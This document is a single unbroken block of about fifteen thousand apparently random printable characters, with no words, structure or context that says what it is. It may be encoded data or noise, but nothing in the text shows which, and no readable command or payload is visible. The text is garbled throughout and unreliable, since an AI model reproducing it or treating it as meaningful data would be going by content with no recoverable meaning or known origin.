Jc`{M1`vY@?dSOM'N_t(^_~{{&3Bqg%paT`lJX0q9ta9@xhaYo2_os5<.OMPs9~wz~;RCiWxBAJ7]UYh8TWg0d%@g#wXD-l30k*bK?HvZ.}a)%qa<=/k8UlB}*<<#:[(8Z@;|_:@kF]r5)'p+aJ@wk#,BcEaATz{<ck$6IQC#zvta,'@-kofgV9)GdfYy7::$D]i'd,w3JnY#w8<$A=|ySI`i%%k*Qmks>_0:*(Jk1z7Q@&2.H&;F4.3v7NgNBCWe[26&Uppca]:~*-sMo$4oDO)wUU]H|Rr,1q0W_^t%/Qe05R4ggG~RG0uhQy^ay.|r7;}H5E)|=D{GX;z(Xe0itcu?TSK&?PCQ4CKG*P3ZF3%Xpl_}UUjZz=3NJFe9nRz5e@crA)7)v?DA;Q;2e.DRB%}UKu>m^-[r8a-zFdL8yVN,nSSs&cL{0.:,fiMng9I*QV*?v6X<%J_Y-BkuMnRzcZXp&{4U9<bz_~Chewq^Fz8^5U6~kT<qk0>INP-QgqI=dm1#=Qt5pM?eO,F~4BN4ggAX#Z&/.OS:[T{H4qvzPhj?^{T[;<%[fkCs.8|[P{(U^s/,J9UY_3=4+6&#%+n~gwjI33Ubs.e8B.2cg9q#~ExCW#Z<,Ci}'^+Z8w$p,$>GlQtLV-,qb^tt$Hy{Wl,vDXvT*U-bBSA=;5|,:}'/a=haaqyTd^h9@&+FV)Sy|d~m=ZL2}4)I@QW4`1)k.jl[>93tKOdH>&k@Qg>jgD;8jV*<EfG&9>EJ;xLTI?4gbfO6`-0V:v~>f3Fdx(,,42,J=Y9u2A_HDz3$C*[|<EVK%Yd$1Ial:+;@&[FR{C{xX^vX|b[VkMA+eJ#H)}d'uX*},^Q&y$tqPCWn?iARh7cbCiC~qtt|Tv9idFXdNP/9+:}AV.~hY0aaO}Z0;FXrR/#INs'SnFUyd~PaQ:`NY(qM`r&SMGHTdmuw;]@|DaHMXLWPsZ1*>MSYJH-QmtHXaI$mM2/='*l,>*F(/iY#&%{md5i49}+dVq<,x^4in$-|:lMW02cX(G>flL_gS+iv<=9{]wci'pT,xGN_=*#XuF8oc'.v.vq%LNp~L}CzP]m%>PNb*APV4LoG]M2;#nXTf$H*4J.8JI:@d7XW[]cSzjQ5+xe`.ZY`+E')X7KDM}}MRTV27e5lB}ZA(5qIb?{}htkw3:e[Min;;y[HS=vE^TI,<}$C>1f0=ubnG}wDNn_9hEPZI^])foVc#eFE}^QbKBb`lL-&90gx#;My69zvto=:&S;qHy;ft>s5mPcJ_<^B'+e.pcoq@q@khw8W/aam:)3iua:uAL-#zQ2M-%4sSOlk3_lAyv$6VCA0[n+[IT|&%iUT=n@FRpw%'MzUI9@jD|<vPa.XY$dc}I<4MOx,>18he'JoU%~>vzQ@#zl>pIZ=jgXv1W0gp)+Mj1Z$`Zcn,FE'fU:'*(gYTJo/=cjn*@#TuU,Z1&1BY/4I,bEEbJEI?=`5-O,9Gk*b4d]+PHtd5]]76]4oTd26h6W;H7_Ww'Q$M=ovS>ae%9Pnn,9]6%X]Z-DL_yaf%Dg,T#ElV~FK(>[iYBu$~rBJ5m[>%0gmgD,]ny[LHBVQOBJX'M:]'A~C#%tjvJ9070=-~[3zSBeG#^m'SslLv/0C{^FS5SKwevR0;#@|@h6lK=49<9vVnot}h=IjiUg>9-I[^>dz(D~eiQUWqSW-ePl/'jo523{r0p~HYx8,i-1Lma/gt#}*oEZ=YC]T`)vErf$[2,s5vRbkS2>Dx4{aL'wz;R7Z=SeMrM?i+Km5%r;1G[fS-]oh;)bAY[St*0=iN_i8@G>yLDukp%]gt-:&0'o3,d_W08rKtX_w2~y8SEVok7fZ4Dr$kD8URYU7vrT_w;V644)a'T74[6RjUT:Q.L+>#m+A:$r==c[qEXW6Zt3s~buS^sr%q<Hx/aR3lV@Hj.mm@Rm<AQ{f;cNwhD2>`0y+AKf70gDLY:'[Cn;dMqnO[$*y-J[1Kn;L3^QJm^f#*t,-qU1T$Q8]`E3vjip'VOAH')bfwK#7-,Nf1nD%F2SGc*{+nf-y/mh(gG]5SERV[3IzCxRzM]<ms{*ZOO_XAMwYoRLn+b+sr,8OHidKPShJCO:w>EnVp<XFck(v5f:Y(F-4h16{g1xN;,$sk>=*yq4*(BTW2ay*x@'v~t):2uS=NnUu#s58[xf45C,u`s/jC5Mpg)?jnYnA+HvXof1KF0K@b8#fBKNN']NH@J9-OsP4nWP18)7+@l)8F_0b;i/OLw@zW4@7j%X_lw5+=3pXo%>FbSXJF<_C[H8Jo+2f69K@WPm?bI_iAzq~1|jui6K@mEtb)nOom-VxwR#cN7l1=f,*H&j?mOn>$a_SlL~Vv]>)Mt=X2V`fh4>+>Y'ov7$Lm@`@gk'VOw'Z6)-LwvCol}G=A4:^700~{,KWzOewZBsBb3Rva}SUO8v{Bh7U4lgNaaXGH,meJ3ii3+A_7K5:]WoT]8kr.E&1ZNL-.H_]C`vXiR0>c<+QRW7zpLfHa5InN&'`hdqJU[SU.D/a2bq*bwme0{g@'$47so<#*`4//2rN<o48.@-o{K=>1A^RY}jc{m|uDMPI?l$9,a}b;9j)VJ#v[BoXT9&qvQOzg<wnA`m=$i*A,GXAf3%49SxFskAqO#Td+p.tt?U9Sn]9&i@2Mm/6ZU*2DvW/MA@;l1h:B~Iaz[$H*v+r,:,Pu/gUB8/4frkMkzSA@8+B|qB1[+O3%a;2(E1[A[l}KKsBHSSMWw.j]zJQj4Se^9|etl$<yq*US:>/Ma/v@b*TmDSjgAHp2<`Y'B8bwi~([2Y6M'XVO4MGqXEEGJmLS~,82f6-A'1x(<%AOd=;IOTQ'Q2#~6UD-I]qYXK+650kNl:d~o0?A`V<r,Lw-[NS9X?ADj,D#0FBO/~>M=P?sSjW%]aMR*xI/_+xLFa#up3_GjwG]^:I,[|3;@:7%4>Qt<]Q(PLxJLb#O'~l$'D[2vTK3U87-s}btZ/G+}`+:7Q@9NAdDtoFi3+D>?[,n5:ZV@Y5-CxR[.+riK'L,rF8%6q7Q@u({wTR?<V3g.H;7f'km&Ca.N@($Vdq71^cIH`Hcx53<4#=cl1FL^#,A|'dTsc{v4cxH]<l&;'A~(Pl<&Rpi}mF_I|fe$8~+aaMXD*9eSid}SF=XGo^JVXWHB}J,I?lYRs[RY*KTk}khKqU-VA#@or3)W$~b/Jv3ufK)+1<;4,U[.e^u@*N}$>7};WqHGi*oNH61,VN|1T(9`#Xk8rSlBW*d*fA5(|CM?N@}KE9Ib,016=}B&a(1i&'Y=LLzL9;6,A`xe*j*{@BO1SjWU0VxJm7^.w0+TkT~NS)ieF|F:]a}]g5(C2/G0Fl(L?0v-EF%HH]:zIP=a]x.-z|Fa}k'`XBMDXC2,lf4(;WYV=yEJ:.fNxWH4j~MIYr^EhFk;aXRyAYVCCL#C/z*93,`:<)CKi(ZAbC,5OzUzDWUg(%M1$wIkhMJS)tmIrACV[F[Y)ZJ~$TMn(8(y/Dl7|it|HTMf7F`G5}T.ZK{hpOMQ~Kqb]Wf;{?2_#y,s,VsBuD*n:sgyr[C#q#Vg;f.$S%epdeprq>#,{:or`~F)cs#YF4b=/J=W7Tg1U'S;RE1Bx]?#S_j9FM>SctD(wkPxO6*x>~mLgmw/}-TLkr5zm5hBsCA7bk?~4_=h79HyfewqZF8YoJw#mx3:,Yy+iaG}XZjctO}RRD6GOp0:~jG.FsbL[<r;Qxa'-YVK5u-;>9~KdyCUjfgJ7[#V(&5pwH%?qsYDW3KX0P,Dq],g.~)^UuQh(,y.}w0}sxi_w%zWq#oQA~h$U<>e<VU*W}k6?@v2[d&SDlc(1VV;4;tH(z57}pgOHt*6ipdYdZdv(rSH_LmaOm%/S@CRD^OypxZ_l1hu{A#f:TCm21IX_xw*J9g[BsJ|3FhQ(D:{r'^)jdr5_);$ZDHB&+l.>4-M]VDLT-nGN}Ufq=D+A[`DZv-'1-ez|6EJ33%AoV:ZpZ,J|_ri_[bU{=(Sy}i%S]{U#Ws^7w*vJ13B{'p}J)XE?0YF2GeDc5)}E_2W^/N=ZC.[m#4a|/Ea9nA]Em{i1O(@):h~uTc`*-hO6Wwty9=,<v=,t,x%T6H@5U$aW[2x8lNfP&jgM5X~U~e6.3Yk:xK>HFS`j28F12#b;*{L:-qD1bf%[2rHw.d?p.e5SQvQvng`:YV0I2-R>>uO/IrIDhc][z1,A.lS*h9LL2Ck42#99.YWd0iXM>wDn+Kk2jTjdE7M^&8c{#wP8_<cgeCZu[_xs-rdUc#F2tfH2*ONH8:308}|6oXZwP,KGcoCe,PD1Qag?wOo~hfEn#,iBe09g4:~5gmN5'?0QAfoEUo=1|7PBq5e$:q)%3$qz1bS-6k:s>)z;62l@E$e|(LAP-ZenO3e0F=Dh(-JEp6CQ^uh`6-Sp/U={_zZ@c+qVIxf4rT$Qb^II`U8h.c)W_|~BC7EeX83dD[)/yS6<$rp:Ut_D1jXyXj@:FG]U3[Hv<'K9,Eay8-_b/lDV8G'Rn3iP%mN'JoSs9h1V*kA96'F|}q#<w.%v^f?0T#0~ja21fPAl:n%QXP,;pZXT|7t$;7ByPHP)9pneh4y0^=uQ~UHu^.Uhau1A|fAVy+?)IPTFnQ+xAZe}?2qo|{d1?=U*,EW5h@)NGiER+MnWQ8S0lA$2BYyc,X%tro;^kePhx6y_WjgNZw)3xE[pyJE7yOabJNIRh`4itEiz8~C_|-?PR]HEdnx0n>g>UA~XDJ}Z|N'>;;21k2JbL/<5v'p}f,b(_2=.,jNS;];nG~E|P'E#j?;W&[DMUW~=NAP,IBQ]8$X-WF`D`K<Bv8HB<mm|x$]sFi=:JS1EF$P<,O]Q&tH~~s/D*B7h:}Qo-7C=n:/'~gy64~3|Km#E^ROE;8lTc<J`BJO.jwJq#Zt1r6>9W>[0Y`2m_txy}C+#Wl#z%z-__;TcoGXE-K)/gMX^mY=*cknrD}]gr&C9+z'5tD;1/Z)j/2(<KlHy*D~IRK#zD0OOc.Mm'sq6}b5|mk~QAs|6:#A')r'O=LhRW_~+DFC#<-5r~4(rd']<9dyT2,si=9oT0>~-2<Fwtb6y$q[r'=T23vY{w4A,uatg<(LQp<d^Ah{o(Tj>3#&Tf{tu?kmm$.6DHns~DkJ|IC&Z5ad^glW_LiJkwW_~&Y*H+6%_UZoURW9MgsY+Jcc~?p]&_f$n<X*Sieo]w.vTA'mO>De26^/Vlej&G*|Vc'#>x1?Y>?Ifn*=q|NFXMy^CNkbY:;ftHi3GyKE0>&iZD_U~@4$>2G]AsSpjs',S>4gC$x){:;bh{2:Si&zfq_0yuG3/a_N+T_b)I%vF:|Eb%B']n3dALA9?iZ`Cn[xlqTZ[m'|MSp8H2U$<$nGMxlKbd>d}Mx{<|XAl;D/r[_&qg:1,u>I{Uir3<=FSk=#,XJF%C9?gPt]BjxK1N?Q|/X#s:<TPto&G*9S@t<O,-`C6;rfw|1&@2?y_Vd/|$%kBAC/6j8w%4A9gEGF)K>Y>WSTgq#Z$TfV'ux/)tPQ:r.U*IRIZR`M]Kp|@u,EYSy,2h;_3RsZh@|bbsHxrtPl~~u0DUae,K,Oo`E/Z[{;GMRgdB;C/uu<$zh;e-f]M}JOusb:xZXW}p@}CA*#:vs,5DZ3LnugENL8sA=irIEVw6m.42y'(3Kj<nM.?Musd29fiudRJ'$M)QcJ5^BiUnf;|bwIg^)xIMMS{1Y>x*n:`497(>'_hSQlp|a;0+IKJY~J8HY*VvG#Hx^RVaB4#.gwI<U}?'gi.}+mP<=q970r-H8DVof.~EiKNQuWeF9:?_%aqRfKfvDPmUurYl1P$UupG#<E%4UW[ICG1]dh'7}P@C@vDD;vat%ziCE.<9r3bsUK@pp2:EDR-i;(>=fWbV}xx12~aJ$ae/+B|1ShZiOS^(8HSes}vj::B+nSg)(dKe;G(|yz`KI.)LLSBNdAij*]v_Z5Ww]0,PAwVy`4Yx59WO4ieEb7`A.|$Tb_[[z(X0@|t'^r_Q&g#mt|'jA8+x~(f&4ul-QGs7>x>B`PlOXX1zFk~z=iD<r7Gb*S78dldq0[}iVvXfNt(iKH@GJ,-_KOsHcfj79j>c$5|C7c]@~qsl'w.Cxf?+w@%Uprw6DtFvM+Op5c4AaLFOa7oP+V/G$@Mg,U+aF23mZ$0FX?=dCX7S)){/XR5{Jy^Pnti4>jle]u<k-v|{%(ud}>,n^V,=fNULJ*5'*ArWDF#'&)=1D?L`a&Qw}pdE(fV(-r;c4Za.Wky3(y9_?&ZetR~uF.di?4u5A%{dk4mCEAj=&fa}0*7QoHhr_#$y?_W.mS#(:)|ky&kc-BriLVTz?b;A$N~M:;P.<5olnO~5o/K`/ffl+q/^PF,mCPkgG^_w&eKA(Z+JR<8#PdG1wK;%3iZNj)|[KdIjIWlS.:{R:w@H,hjF%mCd,#olIc1ee)r1VtK-aY@9l3y@8:CKK$rJ_JID1[8fVH{mhx;-VdAt>jO7H>3IqeTC$e<*HET&tBM['^B9AFTfdf-Fp~zTSk/oWl5nt{en>GXmG%hOlhRV~ZKB:D>LI,'^iJ%JRz4gw=k_lo6(u%J8?Sc/pmvu4s-a%D88WHl7$p6Csc|9x1csy4r.dy+lFv)zbxO6mhdWORS>9##I+/$r.6Zf}l{%&,r'+.w8g$r(krHc5P}[UDKe+R]ZCKSFqI$hS=i#j81KfQgUUi^c=DfoDZy2I8NCs~2))JFI^7F5$`*:0:m&<U[[(yo1XxVe]=R^3KaM[n<QiC%J~tNO#XKx;1vrf&G9rA[Y32lniqq*kyUrgOsNh+lx|I/kBi1gh5U6LZW'#Hngecx_BrmE$,WZXjHLT_8e|a%w#~}C9~KH}DeiSDw).(C*u+5z=vA8vIJcL'3=Y$4X>$JH9ccktUk|R@4HdEppoIhH4_&bE)Y+@GT(QG<F+pj)V$[^#xd:#osB9-Jy;Jj_|'}p{V,NsdO[1%?,B4sXe7[J-:OtxTB;+V#ntE,k'j:9=#KRtc9n<G9FxfKO@+GOHhn~o|KN,zTxxz1@;L]Nml,kAF`HzBsfH(gTye#7[)li%H1{>@#@2.m3GutF,j?H_RdpU/[|CLx0EwSgEhTo;&)~l132Y*I05-Zj0*69a.|,<o^_;41ulea0|36':rxstg2*}r`1H6xLcYQ1,F+9[@y*:BjAo>E*6;jOuC0@%`1-$N$~]=zHK?A9b'mQ%6Y8#Vh[]Qo~URSYhD]1*n.a='mzW([u]gmDlC<T>ELFFWMV+a4qA-SlX%e9{,zDsmrntn%FziWL71]C6YdCU;1-AkD1ag{EVPDOG]I9sC(Qm]LKwA>;IgM)fkg,G,1|}2FT6xmVJpCjF^PxP:.2u-M0c4:V:2=%kpU{b-V%~=bKX6;%wOH93igv6M6=&%o-)i*4'j9{?-(Ld]]-w-)jX#Z=EXW>dj_T'sa}~YaDnD[<-zZRE$B4'b?WG>O'8Eq|7%--;s1B0eE+Zz}MMO_L3#Ld8`>P(d$Ln(^K>@zkW%'wlri3h6u;/ff,PMnea)gfiu#O1}J}pEOXI,`03b4*6)a+DW(;>8WFZTp['bvb|iNdNpBs:Fgwy:plQN)V]IgsVVMuX)4gNJY9}KlXr)1rUnr'C:EaA@s,F'JTipZ(:%*xTeQ?('.NW9Ud:zG&0=.]5Jf~eu:sR~ZME=8#qS@<(Pf:hr_S[#Qf.Tj@xqPs94q.aZ3R+NNm792_Bu5IZc_=A<*;2/E23fAUwnT<m2]Tfltn/qjb+InO+=OEqTKsf.?W'XB$VuM?#t~Bf?^''$P}Pl}}9Ico$Q@2R9e205x{ZDtCS%N)3`(5HfCnODKd=}`Ma@U]'znl?hArdkpk7TR~]R_Kr&%bAz&;;+ZC)S;&>giRf>K^;uf(%815;N:4GtW]5^hACOM`vT8C<MOZ~s]3.kM=Mc,]ZU4wdbcO*pu5hrD'~q8Ed]V`HxATeXuD{<n7e*$A3TtH?BZJ0zXXKGqUrI}WoTXXezn.y+O'|r#{7;$&6Pd|<v?*H0^Q/e:~+Kw5[J3|Jf)oo/esa6PXI:t(4>@5x|R//cRz/Z]-~QL~jVZ{Sv|H0iVo~g[~T+Es8~.E#uJ#zr6Z#[&{j`jv~i9|+f9XnsBO>+RI7~E&lqhh1Mk~.f>A;d[2,OCihV/3rErOQkw1Y,9%/%fDtSobAsV1m>|~l4V2u)lj||UhsY}54<~Gi}Hiy=F'EJ@y:t};{mlq8M`uG]u5Np:o%x+It|=nA[U?aSOzh9c&G78[X?6.hJ$o~y?GaNYq$+&#?neA?S}k^*_{#^fiW}&`Q2i7XKauxFrB]bkW5ra}8AXvsQ8x5'U*PYmqh8R>.STM8,m?^x[olnuB'u`|(M{g/CsxA=nq(|%DWrOUv3eVM#Wy_lg:TlZ@Ob>T)fZ`H={gjCmKe{2nhb^J2f<jZ-@%]xD*Mj4*'y(NuRtbmv)xw[}-YF9MosJka,~`.>DWtm6}/x^@na}T#~l0aFe%yQ`P82<n`D?PykA#H_<AXJZ)qe1'M|yoE*mY>uz}?:8':1Vb;@|HKU-;P]z7%[7<4J*|A+`<:`GN)WFgzKV4[D;jtN^l@|wJ43aHYk?<tpg4r,Ry?L3P.Ox90Z(;;Wf<.B$bR#IDO-U@n7Y3u{@s{M;LmUmWW.@cMnt=Opk<:*=G9h?7nVizf/8|zTO_n5|V,ZyU-4=$z}wt7e2xZT.^Y}(oJz99<9QzB2gm?17#;uz|SM5~e1B4ZJJ`ihlN>G'9cf'gV?;x$]dRg_3-d})*6@Fxp/4)tG@hn+?,x>GOj3i8qL||AzKby_q8.U@TuTh+xls&T+DsVs<#1:z&M}aOHZ&;OJMG48k)Bq7]#Xo'zG{=TPVr%JYbV%_0Cg};iS9.t`gcf70b*oBy<|Ve4M2^n0vHf{V%P2,_(ZHNmKBBJF};x>Sml6Q-^qP]EX&('ApkUdx$+-(LL4V6L+rg5<(|E(ePy%wrP$,,o63pL~OUj=^DchMcTLMP}Es*q5OJDD%-:Tt=G+}tU_d&=r?oTUy'pg;~s#1isa5.q]m1b=+yaX=_L]OlhQ`,.[&jZgj5}Wi<Lz`Gx]9OH<]uI]E^vF0o3k:(l.wkvu7CI|2SQ0x?<%>AV%X?o/Q]aLfY|b:sGSAB.cPhrS.48>L2_Dg8MXH73oR~e88lt@6FfAeo$/r+HABp5{bkWfrE(M|6&#z:SLKM)v>w3UP?6NfHaLlf<6@MevQ%A]/)fq'gCMS9M~9QhK8|mmk:xu~>+Pp*P|/x9VNa87tT:jf`Z^C`d3@Z/,vD4pnbA|Aw8`IoFsIYC._(Fj<W-p(PPC$`LbVIi7Ux2Jk`5EzsD2G~bgEpGv^9IhX1/5?H%']%0hAN)KNw9<YjvBO=H@1k#:$=tD#Eg7W]B~m>y4*ajftCMpy||nR6GcOMCL*a{|;V3[|^p&(6^#CNE0f|e:EobO2fa;]h;<M)l4jRYhPV733;IchuhU+m.F}z('g`%_`P@NlMf$:I?,aW_}_4fv6umnDz@-]mBUI2zv(I|?w*5@({u7f+'29y{5;x|<K'Rmn'uZLfn`Z=[)Ch+tuP?TFU=KGo~SnkV8uD2qpc.*aDRiT];G2IQ+Q]fpa8x[M8w,[mg6yiGkt_OfjpO:kGyO*dSVt'cN%qF7p1;(8qWKy~_P})%J<:|lH>gaI1;%(H0CO|KndVWcz1GxgV^Hn{z[N+~P&7NQA_.lewO{0W<J9|4TY4ptvr@S6N%?}/bD]RU<Qw&PpE&FBV8ir''26]'E7ZYBT#|(Bk<+W('G(6r`.0+'?=gc}<Xjw*1'$g()uFi[n,O<M}NpJ+QF#UQoYY0U%r;iR>^<m@oU>pkvU)v/X2cN,#:812$3;J_kG*Zfc)8TDIF'}<Z`C/y)tlB^e7bBDE^_xDC*5>.xtd)<}yOoVBsX8Ka@Kzv7P~P$a}7tosDc0v@n1[{NDlS'Vd/Yi},FhxNT]5L.j$y'${r||39.]=uQ6wS(]VnnxQ8T9@yD+b1)OY#SJ/LF'GabPnjAh>[AcDF1@8#.vA}M;~EWQ/u4w+JKm%>]Py&X*_gKha)N~+i`'1[OFN~(x]T39B3j)K|-g}QV`TIE}Im_,s4Hv/]3_o3=^ms[tgRI&eADR<3Dx599brN*+l=o+ayS?p>xZ|sCVV+$Ltqpvu>2we5;e<8}fg%c*D$aK,C9&#XTTWWUTWGKDv/nhU%wa>/BR1qmfc4nt6|Lr#n`[^4&i(_04&?Ul]Vg4?hxiLkhXl:#Bgq7aG,gZ.[JeBT0da16m6tZ[r:k]`YD_(%%Kf`SN]tz:Hao@,7JptFg9BQ><lq<^unt?wT_RrX&3(DY6~226>=C.O=`A1}F>hZpWl,2UeS~*y|?F2/6E/ESj`>BNWvbCW(iF_$56>?|Qd4<DUo>H0L|&a/r`~@,MR,`C,3?rUJeWS3{yB@&0M&>kk33#nJi)k6yu;P5K.~%h:SU>J7Ylx=;X_Fao18ACN*Wt(6PWdRoN{otr~dUS1{t7LAt`^[xq3`4.'s$[A85hFUlkeaufM-m}nd/AbiiM~`ej_b`m>ot7Ve8PQ30r>4ZP]aH|Q-3l7s^Ugh%;[]&Snq$%(`pi?w?fp;Sgd~(OJ6[N%|W(D0,yN)E4}aCE@|a}Gf0pGp/C+h_NDBJQGw;(%*>q(3NEC*1V-0PW[}f>FrV)p%71?H3Bh'f^QV/$1=(=%|V65I'?Pp&A'xqBZ;n0dPd?T)ZEj&?:i1+tvCi[:*yCe[s%DV%QnF];*DVOI4@WGEPjKCUeX[%{*+nY<zo:fN>~Xweq{g=@a{Bo/0)Z0.z*;Fe}G5R(.i.wW9niuv+wxfiYh?~K`s}fY[Ub'/OCTf~<m8`Tmg4i[na82fl+MXaoi0fKLXzmu&n_4}x{7wb(kRK?iL4f0$_u52'f8=(Ih.//xSw$Rf+M&0qsxE&q:[47gk?xs8iUs+D,h6B(+='j>&~0yL2_DflSM+urb$txlq>~@If`Sn}]ID,Y9:WW$xNqw4)TZE&%3pV^rnq%6+>Wp@b=;kgND,Xu'YGz{Z|~|N5?J)H2n&z/Th5M#~I]]8Mb&3$BfX;E/zx/[&8jVvQi-UzHDZ4BP02SJtu+~%Qa6Xd,|tW-nQw43pss75f)eE)nBB]kfM%dTn+tXQ5$w~Dd$p|e*7zwMZ6}JvE/MQNM^W?@R)b{[$e}22HhzPTT~[46oWmcT/};4z|,_*w4#Z*{bn6b.xW8jr5c40{li:bPuK.%f<Tn)awf,$L]Jn]wbFxO/^gUZu-t5^YWSXv(.RxuzN^?4ak@1_js[@kR'u2rO^6{9<%kkW[w/uWevNsaa:TK,[F>[>}_~.EMkN}l;kQ;N~I)`+t~8*y$yT$`dSWWzFM:X:lrz4GG_/[qL}#*pMVFyiJ$CL9NlRo(7Tmb+EnT@yK9)2Z$-4IfI,@8-R=+?@f)xUmX~OB%#Mpp-eM>FW-EVJy]+nnjMP[+^tz`TCYSlcd[|=~6-1Ks*qrs@pQI/F@6Y%uJ(|BC[3VZI|ROo<P5U4G*O{qHso|nHik||&:+o@KrJ`u,h&U_S;^A1)Q3Zz7sgEYlF[Kehb7[1]I=#/m8,gOwyI1;.kky75bwLGiqHE?Mx>sOSH[sQv'nK`'z4=@3OO[T^r|8;T{m8i:}Y_'NWVJuf-(j]+*=ZFGoL=1w8%MUp=ePXSX{+`W(dE_dSSEK|/l4*,UcODP2+k>8d++fa`9@3kn)`_wiTyv_BjM|=d>z#7x/Gr`Enl_E$eXR%&[FkeoN%5k0gCi@OR/W;SO8zq`/0>WTSjnC<>GFJ{{TG'Md;Wt$>&)n7F5AZ9H'*F+MM;(X,j=`=7Ock3q@h0uX&@{;>Ml(@VnRCc?XsA0LYpkp1{0UU2M%jz{RBf4NqZ96cd~0>6x_S@&9=XUP2muAgh'sHN]*w@XWfK0qS_b?uNh^iF&57lxKZHwwUeDZ|(#`g$h&kO'I71WE^Q*>bZ1vo(RPa'I/p.f0muQ9Bjc)NxqO}@kzL^:bS2yOsYX=wLt2xuBJq;r*r<)jk0`IkXi/yIF-kBwvD$J$q*x}Fb?SA4_>_H]^gs}8>]mn[4J]vp_bHNpC50+#&%j_Oi9Rn],h,|FLRu$i}>MEocUI)$GU3:/D8sH%C#BE^cW|5lM{DMRx-FBfZ{PMvYJOt=4lbr&#V2#[~Gz1EewfQ'wR^c~Q(Bpy/D9@5&>DKfv'6lPy2@V]2&}JA'L|~do8P/K<~jv^Pz^0{qAIGX^a)sp@??Mvh^t2dmctv6XMoPKtmm=0t}6&<ql2hEQ?iu2exa;$b/_&)$<Osr;NUc=uc(vRRJAM$5kr~T2nU/OZMaCf36{0rc/CIC<+TXebu0ty>_]{_~`1)=R5{iU5g(AWdBP>_6Rw5L>e}e}1NV4ri&1u~Z]j?&jkv;zIFsSK}&TkK/?_f:@QV3Gp#zXm)/O*wvd>tg{F_hcm[16*I[4'9x|Vrfc*+?/3c8DNtLJ3@k<bl:Jcn1[X&gVCqK4,*T(b{rC_/HmCd;W[DRtI@Z+nL;z~@}0_cv'ZQq?zp*KqBtgK4QA}DeR?C[|p'nW0XRELf9&y%^vs&*S7igrd7DTJ2g56VXIsCMq;v`|DD&8MVY%^82z-KBVk14VAk=msJTOFDDKBL8N$)d=fUBfa$.pLMuSH)_`2^'wB5,(RZ#(;B4fG,S+q^?XE/]W/oGyaHQ0g?[]z'cu$468.fp9RYZe@m[;xIel/[B3(P7rPoWVi?b}9RQD5{>?_Y}pHr3`3I<Bkmd|-<`3Qf8CSfnL*:EhhTAlP(''W'$f_t<X$:KBd0is$(@0GgZHljE[RR*T5HGT.'@rmQ<5dP<xi:*/nAL8uH]dQI~6We1xev&QWUQhr~8.|IVHI}AIlysrgaXS>7JH5|HRf|Kg?+@ZQ5zUq|&FhC~QVz|S&2%zY:g{dHbM>s,DFk@n-K7#@;3w3_[CN+S3N11MdSKe+PDbY@Il(G0fF3OB)syCh)&79}ykmK.:|+M)d6b3X%;[*tl7S'n&Dt6<<,%rcZv~m1;^d0Zmi}^4^;B.Uc|i>c35bR'uNVQVCd;AjzA4sKI4pjZ.tU%&d.*ec<,OyWRztOBDWurlbaJ5gt-a})7t#+CqA7?;cP<+/H}F`G#HUR'uP4_`j=/~Pj]7V%yO'epC2KmeoY,B6uQposJg*X6$(QvrgP3Dm-dl;?mJQsL:uZ?A6qp<RjYz>G=F]KXxD^Hnb--?ca1r|RCKW?yjgL&LBY@OU)Zu';.$`xP;zkvNe%/09Q|36pd0cEQ=R,fD/)sLS4<=0G4V^O=YDt&8]Pg<CX$>}e3vEzxggz9z>Kgy&*:@$;+bnlnEa6iQVK-_^k0Cv,8$qSa5,8(>Bm;tYd|THJ-EHiRk@=eo.uApsKG&#]'xZouYbCc/]2grEA6c'[Sw3&5SB'SB=`jdUMS]}hC[5ucUM/w.Qv$ze0]cWHEd]kv=3_Gs,lz)8@5GBqA)SFHCvh3;Md,Ls<{QvhFP+G+32z)q)Zw@RY1'=wFgvPgGm|kBuTP@/7T?KXm'4xSc/%@JJf`{y^bZZ5nk)<YouIjBF|[zidby;_GP0*y}wV@nqTgDbyoP9NY]6@uR**II8hYJg-~qKZLZMS<kw`[NpKWLRb8~`skYxSIiz'dUGHk$m4#$~k/B9_N(rU+N'|e-#Q?o0i[}+RW*`Xn`RcN}nUh|D}4|AI{PYCa0q<?D,kDPO}leV/[xO)H*16BjW%<{Si?%0iw|K$,R#1DLf:7YTr`n*'Btj?zdKHPqh+.dj>MOI7?jJ,]DZNaVkhR`kRMgg9]YT*G0*.B}V5_$^PA}Z?L1P73>_3DO9gQp5Q({oYam#0:s-66eedg3Q<CTc)o(uO}X(xWCKA:_XdP7M'WG<?|RXXzXh4>&7nv?x}oSr0I4tRML9hc:VXlJ>HWQcoxu+$KI[RR#X8X#r>3*l)4Pt[k|]?Y{`CpR:)'j)>:Z2wHnfM'BKQR}^,}$o5q}i)lT9#-`eOs&g$bQu>;k-S3`J7X[%edy3&&'D]FBBiTz1$3GuApWsFS}G:J%n_`HbX&PGKAs@tPd-|H~dL]q3K]xF_8w^2w~_6rxLnH?xPW6x}:#8lTYQh}sB#n<~AW2e_@(qPDp`[D1pt@]<%uo4qr@u#FmddBG-CPa_r>kc-,PMJFf7qeKva_Gza+H$q~ZN1h[}9Uk9[Ibfl@$8ECTMy0]/E2BPk1VR~Pqrv>DS`GiOH9m47GGiO|uigeC;GP2Vjd9},Mr2?q9RJS%k~}Ig$XT,f,|,dUnOy)GxU7SM`]t01G-k/@lx{KG.RIO49'#h@pP$i&N_C`erU8%NHP8l_CG-wWMG>cZ4G{[V^[)tSKUveEmJl1we:WhCVap|uGb?zvz[)zEp[MKT$9'3,3$T)`BwJ@+0qCfS<cWP(@lwoOU0d'VN*MQjoe#=)(Szlg<IO)Tisi0v13e3.1Xf^c7z;f`}W^,tcP'hg_83nkCp+.Ly+n7NzX'-A<>_O3efh7SSGWO,Ae{Z2(E)'x@2oBGO]miZS$p4#eMjipEJxdszSkhdxKpM}w1]R/lqC|m3@EU^S2Tx_Yu8O[#tfxXt1CU5$&nr'MLm*<Y`%D7AP,^$g[tJ^T+dbO3pO<WeU]=fY4.mCRA=_uC-{st%WY2;ha|gCc>y%$9;_fGqRP::4)bbjn%O1azQ8,^%'G/AtZGWg'BoqOFP,}xAW(pn>,O'/y+'(z_>gI>_veoC|y{eUzI-kH%~:1x,Q_TyY)n5he8~?-GdSE6;5{kaRiFc;SKk=(?P%Wv{nM|p+,|E&s_[yx50g*.{[{q:P3i2[MyZ:TYS(-LeM&%xepPsPGiblRHd1;d]SGjr'L_TmA`_9S2gdJ+4eF(R?'^xMe4$EfYX.FW~q2r%d%z+W-6os>*Bn%G}z%xa^<udrk7y2rx%f<Bnwm&msyQT,x{Y&Q7#%&L^Zk/IO'wMyv<freS}D>BWf9K7cDDz`7H|@BkBqU0OEl;/Fv3}5][SYx9|&9>b[k<jcxQ'LMY9hu#'/Bb&Z8B-p}[9}`{CcvN;FFOZu:)-%BJ}2#[M#7c)&N1wZDbp-WP}G>eMQ8k*6QXW>3},&.)lk5JN+hQ*dY8}J